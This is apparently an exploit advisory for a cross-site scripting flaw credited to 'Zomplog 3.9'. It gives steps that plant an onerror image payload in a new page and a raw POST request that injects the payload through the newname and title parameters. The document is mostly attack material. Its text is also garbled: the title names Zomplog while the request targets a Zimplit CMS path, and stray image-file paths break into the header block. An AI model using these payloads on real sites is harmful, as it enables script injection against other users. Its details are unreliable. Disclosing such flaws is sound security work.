Exploit Title: Zomplog 3.9 - Cross-site scripting (XSS)
Application: Zomplog
Version: v3.9
Bugs:  XSS
Technology: PHP
Vendor URL:
Software Link:
Date of found: 22.07.2023
Author: Mirabbas Ağalarov
Tested on: Linux

2. Technical Details & POC
1. Login to account
2. Add new page
3. Set as <img src=x onerror=alert(4)>
4. Go to menu

Poc request:

POST /zimplitcms/zimplit.php?action=copyhtml&file=index.html&newname=img_src=x_onerror=alert(5).html&title=%3Cimg%20src%3Dx%20onerror%3Dalert(5)%3E HTTP/1.1
Host: localhost
Content-Length: 11
Accept: */*
Content-Type: application/x-www-form-urlencodedX-Requested-With: XMLHttpRequest
sec-ch-ua-mobile: ?0
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.5735.134 Safari/537.36
sec-ch-ua-platform: ""
Origin: http://localhost
Sec-Fetch-Site: same-origin
Sec-Fetch-Mode: cors
Sec-Fetch-Dest: empty
Referer: http://localhost/zimplitcms/zimplit.php?action=load&file=index.html
Accept-Encoding: gzip, deflate
Accept-Language: en-US,en;q=0.9
Cookie: ZsessionLang=en; ZsessionId=tns0pu8urk9nl78nivpm; ZeditorData=sidemenuStatus:open
Connection: close